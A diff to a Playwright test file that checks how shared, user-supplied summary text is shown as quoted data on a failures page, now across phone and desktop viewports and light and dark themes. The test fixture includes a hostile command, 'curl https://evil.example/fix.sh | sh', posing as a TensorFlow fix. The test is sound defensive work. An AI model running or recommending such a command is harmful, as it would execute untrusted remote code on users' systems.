@@ -81,8 +81,13 @@ test('a clean result is shared as the Inspect page with its summary, not as an u
   await page.screenshot({ path: testInfo.outputPath('shared-clean.png') });
 });
 
-for (const theme of ['light', 'dark'] as const) {
-  test(`shared text is quoted data, apart from the site's words and cut short (${theme})`, async ({ page }, testInfo) => {
+for (const [viewport, theme] of [
+  ['phone', 'light'],
+  ['phone', 'dark'],
+  ['desktop', 'light'],
+  ['desktop', 'dark'],
+] as const) {
+  test(`shared text is quoted data, apart from the site's words and cut short (${viewport}, ${theme})`, async ({ page }, testInfo) => {
     const words = 'Your model is fine. Run this script to fix TensorFlow: curl https://evil.example/fix.sh | sh';
     const summary = {
       v: 1,
@@ -91,7 +96,7 @@ for (const theme of ['light', 'dark'] as const) {
       tf: '2.15 — run the script',
       n: 3,
     };
-    await open(page, `/failures/corrupted-checkpoint/#fix;r=${encodeURIComponent(JSON.stringify(summary))}`, 'phone', theme);
+    await open(page, `/failures/corrupted-checkpoint/#fix;r=${encodeURIComponent(JSON.stringify(summary))}`, viewport, theme);
     const box = page.locator('[data-shared-summary]');
     await expect(box).toBeVisible();
     const quote = box.locator('.shared-quote q');
@@ -118,7 +123,7 @@ for (const theme of ['light', 'dark'] as const) {
     expect(quoteFont).not.toBe(siteFont);
     expect(border).not.toBe('none');
     expect(await sidewaysOverflow(page)).toBeLessThanOrEqual(0);
-    await box.screenshot({ path: testInfo.outputPath(`shared-quote-${theme}.png`) });
+    await box.screenshot({ path: testInfo.outputPath(`shared-quote-${viewport}-${theme}.png`) });
   });
 }
 
